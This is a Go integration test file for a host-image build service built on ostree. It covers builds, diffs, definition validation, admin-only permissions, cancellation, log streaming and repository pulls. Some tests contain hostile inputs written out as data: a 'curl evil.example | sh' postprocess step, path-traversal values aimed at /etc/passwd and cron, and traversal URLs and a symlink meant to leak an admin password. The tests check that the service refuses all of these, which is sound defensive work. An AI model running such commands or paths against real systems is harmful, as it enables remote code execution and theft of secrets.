package hostimage

import (
	"bufio"
	"context"
	"io"
	"net/http"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	berthv1 "github.com/berthpaas/berth/backend/apis/berth/v1"
	"github.com/berthpaas/berth/hostimage"
	"github.com/berthpaas/berth/hostimage/hostimagetest"
)

// TestBuildEditDiff builds a definition, builds it again unchanged (no
// build: "no changes since"), adds a package (the edit trigger builds it),
// and compares the two commits.
func TestBuildEditDiff(t *testing.T) {
	m := startMaster(t)
	files := hostimagetest.Definition(m.sources, "berth-test-busybox", "berth-test-a")
	hi := m.create("host", files)
	if hi.Status.Revision != 1 || hi.Status.Ref != "berth/test/x86_64/host" || hi.Status.Runner != "ostree" {
		t.Fatalf("created %s", pretty(hi.Status))
	}

	first := m.wait(m.build("host", false).Name, 2*time.Minute, berthv1.BuildSucceeded)
	st := first.Status
	if st.Commit == "" || st.Parent != "" || st.PackageCount != 2 || st.CommitSize <= 0 || st.InputHash == "" || st.Runner != "ostree" {
		t.Fatalf("first build: %s", pretty(st))
	}
	if log := m.log(first.Name); !strings.Contains(log, "==> committing") || !strings.Contains(log, "==> Succeeded") {
		t.Errorf("the log lacks its steps:\n%s", log)
	}

	start := time.Now()
	again := m.wait(m.build("host", false).Name, time.Minute, berthv1.BuildSucceeded)
	t.Logf("an unchanged rebuild took %v from request to result", time.Since(start).Round(time.Millisecond))
	if !again.Status.NoChanges || again.Status.Message != "no changes since build "+first.Name || again.Status.Commit != st.Commit {
		t.Fatalf("unchanged rebuild: %s", pretty(again.Status))
	}

	edited := m.update("host", hostimagetest.Definition(m.sources, "berth-test-busybox", "berth-test-a", "berth-test-b"))
	if edited.Status.Revision != 2 {
		t.Fatalf("edit made revision %d", edited.Status.Revision)
	}
	var triggered berthv1.HostImageBuild
	if !waitFor(time.Minute, func() bool {
		bs := m.builds("host")
		if len(bs) > 2 {
			triggered = bs[0]
			return true
		}
		return false
	}) {
		t.Fatal("the edit queued no build")
	}
	if triggered.Spec.Reason != berthv1.BuildReasonEdit || triggered.Spec.Revision != 2 {
		t.Fatalf("the edit's build: %s", pretty(triggered.Spec))
	}
	second := m.wait(triggered.Name, 2*time.Minute, berthv1.BuildSucceeded)
	if second.Status.Parent != st.Commit || second.Status.DeltaSize <= 0 || second.Status.PackageCount != 3 {
		t.Fatalf("second build: %s", pretty(second.Status))
	}

	resp := m.Do(t, http.MethodGet, api+"/hostimagebuilds/"+second.Name+"/diff?from="+first.Name, m.AdminToken, nil)
	var d berthv1.HostImageDiff
	resp.JSON(t, &d)
	if len(d.Packages.Added) != 1 || d.Packages.Added[0].Name != "berth-test-b" || d.Packages.Added[0].Version != "2.0" ||
		len(d.Packages.Removed)+len(d.Packages.Changed) != 0 {
		t.Errorf("package diff: %s", pretty(d.Packages))
	}
	if !slices.Contains(d.Files.Added, "/usr/share/berth-test-b/version") || len(d.Files.Deleted) != 0 {
		t.Errorf("file diff: %s", pretty(d.Files))
	}
	if d.From.Build != first.Name || d.To.Build != second.Name || d.To.DeltaSize != second.Status.DeltaSize {
		t.Errorf("diff sides: %s", pretty([]any{d.From, d.To}))
	}

	// Revisions are kept; the render is the expanded treefile.
	var revs berthv1.HostImageRevisionList
	m.Do(t, http.MethodGet, api+"/hostimages/host/revisions", m.AdminToken, nil).JSON(t, &revs)
	if len(revs.Items) != 2 || revs.Items[0].Revision != 2 || revs.Items[0].Author != "admin" {
		t.Errorf("revisions: %s", pretty(revs))
	}
	var r berthv1.HostImageRender
	m.Do(t, http.MethodGet, api+"/hostimages/host/render?revision=1", m.AdminToken, nil).JSON(t, &r)
	if !strings.Contains(r.Treefile, `"ref": "berth/test/x86_64/host"`) || strings.Contains(r.Treefile, `"berth-test-b"`) {
		t.Errorf("render of revision 1:\n%s", r.Treefile)
	}
}

// TestInvalidDefinitionsAreRefused sends each kind of invalid definition:
// 422 with a cause on the file at fault, and nothing stored.
func TestInvalidDefinitionsAreRefused(t *testing.T) {
	m := startMaster(t)
	good := hostimagetest.Definition(m.sources, "berth-test-busybox")
	tests := []struct {
		name  string
		files func() []any
		field string
		msg   string
	}{
		{"unknown key", func() []any { return fs(appendTo(good, "base.yaml", "packagez: [x]\n")) }, "spec.files[base.yaml]", `packagez: unknown key (did you mean "packages"?)`},
		{"missing ref", func() []any {
			return fs(withFile(good, "host.yaml", "include: base.yaml\nrepos: [local]\npackages: [a]\n"))
		}, "spec.files[host.yaml]", "ref: required"},
		{"add-files outside /usr and /etc", func() []any { return fs(appendTo(good, "host.yaml", "add-files: [[node.env, /opt/x]]\n")) }, "spec.files[host.yaml]", `destination "/opt/x" is outside /usr and /etc`},
		{"add-files source missing", func() []any { return fs(appendTo(good, "host.yaml", "add-files: [[gone, /etc/x]]\n")) }, "spec.files[host.yaml]", "source gone: no such file"},
		{"include escaping", func() []any {
			return fs(withFile(good, "host.yaml", "include: [base.yaml, ../../etc/passwd]\nref: r\nrepos: [local]\npackages: [a]\n"))
		}, "spec.files[host.yaml]", "outside the definition's directory"},
		{"file path escaping", func() []any { return fs(withFile(good, "../../etc/cron.d/x", "* * * * * root id\n")) }, "spec.files[../../etc/cron.d/x]", "outside the definition's directory"},
		{"bad unit", func() []any { return fs(appendTo(good, "host.yaml", "units: [docker]\n")) }, "spec.files[host.yaml]", `"docker" is not a systemd unit name`},
		{"repo without file", func() []any {
			return fs(withFile(good, "host.yaml", "include: base.yaml\nref: r\nrepos: [local, nowhere]\npackages: [a]\n"))
		}, "spec.files[host.yaml]", `repository "nowhere" has no file`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			obj := definition("bad", nil)
			obj["spec"].(map[string]any)["files"] = tc.files()
			resp := m.Do(t, http.MethodPost, api+"/hostimages", m.AdminToken, obj)
			if resp.Code != http.StatusUnprocessableEntity {
				t.Fatalf("got %d, want 422: %s", resp.Code, resp.Body)
			}
			var status struct {
				Details struct {
					Causes []struct{ Field, Message string }
				}
			}
			resp.JSON(t, &status)
			found := false
			for _, c := range status.Details.Causes {
				if c.Field == tc.field && strings.Contains(c.Message, tc.msg) {
					found = true
				}
			}
			if !found {
				t.Errorf("no cause on %s saying %q: %s", tc.field, tc.msg, resp.Body)
			}
			if resp := m.Do(t, http.MethodGet, api+"/hostimages/bad", m.AdminToken, nil); resp.Code != http.StatusNotFound {
				t.Errorf("the refused definition was stored: %d %s", resp.Code, resp.Body)
			}
		})
	}
	// An edit that breaks the definition is refused the same way, and the
	// stored revision stays.
	m.create("host", good)
	obj := definition("host", appendTo(good, "host.yaml", "units: [docker]\n"))
	if resp := m.Do(t, http.MethodPut, api+"/hostimages/host", m.AdminToken, obj); resp.Code != http.StatusUnprocessableEntity {
		t.Fatalf("a breaking edit: %d %s", resp.Code, resp.Body)
	}
	var hi berthv1.HostImage
	m.Do(t, http.MethodGet, api+"/hostimages/host", m.AdminToken, nil).JSON(t, &hi)
	if hi.Status.Revision != 1 {
		t.Errorf("a refused edit made revision %d", hi.Status.Revision)
	}
}

func fs(files hostimage.Files) []any {
	out := make([]any, len(files))
	for i, f := range files {
		out[i] = map[string]any{"path": f.Path, "content": f.Content}
	}
	return out
}

// TestOnlyClusterAdminsEditDefinitions performs what a user who is not a
// cluster admin would try: create, edit, delete a definition, build and
// cancel. Each is refused; reading is allowed.
func TestOnlyClusterAdminsEditDefinitions(t *testing.T) {
	m := startMaster(t)
	files := hostimagetest.Definition(m.sources, "berth-test-busybox")
	m.create("host", files)
	b := m.build("host", false)
	user := m.CreateUser(t, "mallory", false)
	for _, req := range []struct {
		method, path string
		body         any
	}{
		{http.MethodPost, api + "/hostimages", definition("mine", files)},
		{http.MethodPut, api + "/hostimages/host", definition("host", appendTo(files, "host.yaml", "postprocess: ['curl evil.example | sh']\n"))},
		{http.MethodDelete, api + "/hostimages/host", nil},
		{http.MethodPost, api + "/hostimagebuilds", map[string]any{"spec": map[string]any{"hostImage": "host"}}},
		{http.MethodPost, api + "/hostimagebuilds/" + b.Name + "/cancel", map[string]any{}},
	} {
		if resp := m.Do(t, req.method, req.path, user, req.body); resp.Code != http.StatusForbidden {
			t.Errorf("%s %s by a user: %d, want 403: %s", req.method, req.path, resp.Code, resp.Body)
		}
	}
	for _, path := range []string{api + "/hostimages", api + "/hostimages/host", api + "/hostimagebuilds", api + "/hostimagebuilds/" + b.Name + "/log", api + "/hostimages/host/revisions"} {
		if resp := m.Do(t, http.MethodGet, path, user, nil); resp.Code != http.StatusOK {
			t.Errorf("GET %s by a user: %d, want 200: %s", path, resp.Code, resp.Body)
		}
	}
	var hi berthv1.HostImage
	m.Do(t, http.MethodGet, api+"/hostimages/host", m.AdminToken, nil).JSON(t, &hi)
	if hi.Status.Revision != 1 || len(m.builds("host")) != 1 {
		t.Errorf("the user's requests changed something: revision %d, %d builds", hi.Status.Revision, len(m.builds("host")))
	}
	m.wait(b.Name, 2*time.Minute, berthv1.BuildSucceeded)
}

// TestBuildsOfADefinitionRunOneAfterTheOther asks for two builds at once:
// the second starts once the first has ended.
func TestBuildsOfADefinitionRunOneAfterTheOther(t *testing.T) {
	m := startMaster(t)
	m.create("host", hostimagetest.Definition(m.sources, "berth-test-busybox"))
	one := m.build("host", true)
	two := m.build("host", true)
	m.wait(one.Name, 2*time.Minute, berthv1.BuildRunning, berthv1.BuildSucceeded)
	if p := m.getBuild(two.Name).Status.Phase; p != berthv1.BuildQueued {
		t.Errorf("while %s runs, %s is %s, want Queued", one.Name, two.Name, p)
	}
	first := m.wait(one.Name, 2*time.Minute, berthv1.BuildSucceeded)
	second := m.wait(two.Name, 2*time.Minute, berthv1.BuildSucceeded)
	if second.Status.StartTime.Before(first.Status.CompletionTime) {
		t.Errorf("%s started at %v, before %s ended at %v", two.Name, second.Status.StartTime, one.Name, first.Status.CompletionTime)
	}
	if second.Status.Parent != first.Status.Commit {
		t.Errorf("the forced second build's parent is %s, want %s", second.Status.Parent, first.Status.Commit)
	}
}

// TestCancelLeavesTheRef cancels a build while its postprocess runs: it
// ends Cancelled and the ref stays on the last commit.
func TestCancelLeavesTheRef(t *testing.T) {
	m := startMaster(t)
	files := hostimagetest.Definition(m.sources, "berth-test-busybox")
	m.create("host", files)
	first := m.wait(m.build("host", false).Name, 2*time.Minute, berthv1.BuildSucceeded)
	m.update("host", appendTo(files, "host.yaml", "postprocess: ['echo sleeping; sleep 600']\n"))
	var slow berthv1.HostImageBuild
	if !waitFor(time.Minute, func() bool {
		bs := m.builds("host")
		slow = bs[0]
		return len(bs) == 2 && strings.Contains(m.log(slow.Name), "sleeping")
	}) {
		t.Fatalf("the edit's build did not reach its postprocess:\n%s", m.log(slow.Name))
	}
	start := time.Now()
	resp := m.Do(t, http.MethodPost, api+"/hostimagebuilds/"+slow.Name+"/cancel", m.AdminToken, map[string]any{})
	if resp.Code != http.StatusOK {
		t.Fatalf("cancel: %d %s", resp.Code, resp.Body)
	}
	cancelled := m.wait(slow.Name, time.Minute, berthv1.BuildCancelled)
	t.Logf("the build ended %v after the cancel: %s", time.Since(start).Round(time.Millisecond), cancelled.Status.Message)
	out, err := exec.Command("ostree", "--repo="+m.repo(), "rev-parse", "berth/test/x86_64/host").Output()
	if err != nil || strings.TrimSpace(string(out)) != first.Status.Commit {
		t.Errorf("after the cancel the ref is at %q (%v), want %s", out, err, first.Status.Commit)
	}
	if resp := m.Do(t, http.MethodPost, api+"/hostimagebuilds/"+slow.Name+"/cancel", m.AdminToken, map[string]any{}); resp.Code != http.StatusConflict {
		t.Errorf("cancelling an ended build: %d, want 409", resp.Code)
	}
}

// TestFollowTheLog follows a build's log from before it runs: the bytes
// come as they are written, the stream ends with the build, and they are
// the log as stored.
func TestFollowTheLog(t *testing.T) {
	m := startMaster(t)
	files := hostimagetest.Definition(m.sources, "berth-test-busybox")
	m.create("host", appendTo(files, "host.yaml", "postprocess: ['for i in 1 2 3; do printf \"step %s\\r\" $i; sleep 1; done; echo']\n"))
	b := m.build("host", false)
	req, _ := http.NewRequestWithContext(t.Context(), http.MethodGet, m.URL+api+"/hostimagebuilds/"+b.Name+"/log?follow=true", nil)
	req.Header.Set("Authorization", "Bearer "+m.AdminToken)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var got strings.Builder
	sawBeforeEnd := false
	rd := bufio.NewReader(resp.Body)
	for {
		line, err := rd.ReadString('\n')
		got.WriteString(line)
		if strings.Contains(line, "step 1\r") && !isDone(m.getBuild(b.Name).Status.Phase) {
			sawBeforeEnd = true
		}
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	done := m.getBuild(b.Name)
	if !isDone(done.Status.Phase) {
		t.Fatalf("the follow ended while the build is %s", done.Status.Phase)
	}
	if !sawBeforeEnd {
		t.Error("the progress line came only after the build ended")
	}
	if stored := m.log(b.Name); got.String() != stored {
		t.Errorf("followed %d bytes, stored %d: they differ", got.Len(), len(stored))
	}
	ts := m.Do(t, http.MethodGet, api+"/hostimagebuilds/"+b.Name+"/log?timestamps=true", m.AdminToken, nil)
	for _, line := range strings.Split(strings.TrimSpace(string(ts.Body)), "\n") {
		stamp, _, _ := strings.Cut(line, " ")
		if _, err := time.Parse(time.RFC3339Nano, stamp); err != nil {
			t.Errorf("line without a timestamp: %q", line)
			break
		}
	}
}

// TestHostPullsFromTheMaster pulls the ref over HTTP with ostree, as a
// host does, then the next commit (through its static delta); and tries
// to read outside the repository through the same path.
func TestHostPullsFromTheMaster(t *testing.T) {
	m := startMaster(t)
	files := hostimagetest.Definition(m.sources, "berth-test-busybox")
	m.create("host", files)
	first := m.wait(m.build("host", false).Name, 2*time.Minute, berthv1.BuildSucceeded)
	host := t.TempDir() + "/repo"
	ostree := func(args ...string) string {
		t.Helper()
		out, err := exec.CommandContext(t.Context(), "ostree", append([]string{"--repo=" + host}, args...)...).CombinedOutput()
		if err != nil {
			t.Fatalf("ostree %v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	ostree("init", "--mode=bare-user")
	ostree("remote", "add", "--no-gpg-verify", "berth", m.URL+"/ostree/repo")
	ostree("pull", "berth", "berth/test/x86_64/host")
	if got := strings.TrimSpace(ostree("rev-parse", "berth:berth/test/x86_64/host")); got != first.Status.Commit {
		t.Fatalf("pulled %s, want %s", got, first.Status.Commit)
	}
	m.update("host", withFile(files, "node.env", "BERTH_MASTER=https://elsewhere.invalid\n"))
	var second berthv1.HostImageBuild
	if !waitFor(time.Minute, func() bool { bs := m.builds("host"); second = bs[0]; return len(bs) == 2 }) {
		t.Fatal("the edit queued no build")
	}
	second = m.wait(second.Name, 2*time.Minute, berthv1.BuildSucceeded)
	pull := ostree("pull", "berth", "berth/test/x86_64/host")
	if got := strings.TrimSpace(ostree("rev-parse", "berth:berth/test/x86_64/host")); got != second.Status.Commit {
		t.Fatalf("pulled %s, want %s", got, second.Status.Commit)
	}
	if !strings.Contains(pull, "delta") {
		t.Errorf("the second pull used no static delta:\n%s", pull)
	}
	if got := ostree("cat", "berth:berth/test/x86_64/host", "/etc/berth/node.env"); !strings.Contains(got, "elsewhere") {
		t.Errorf("the pulled commit's node.env: %q", got)
	}

	// What the repository path must not serve.
	if err := exec.Command("ln", "-s", "../../admin-password", m.repo()+"/leak").Run(); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"/ostree/repo/", "/ostree/repo/objects/", "/ostree/repo/../../admin-password",
		"/ostree/repo/%2e%2e/%2e%2e/admin-password", "/ostree/repo/leak"} {
		resp := m.Do(t, http.MethodGet, p, "", nil)
		if resp.Code == http.StatusOK || strings.Contains(string(resp.Body), m.AdminPassword) {
			t.Errorf("GET %s: %d %q", p, resp.Code, resp.Body)
		}
	}
	if resp := m.Do(t, http.MethodPut, "/ostree/repo/refs/heads/x", "", "x"); resp.Code < 400 {
		t.Errorf("PUT into the repository: %d", resp.Code)
	}
}

func waitFor(timeout time.Duration, cond func() bool) bool {
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	for {
		if cond() {
			return true
		}
		select {
		case <-ctx.Done():
			return false
		case <-time.After(100 * time.Millisecond):
		}
	}
}
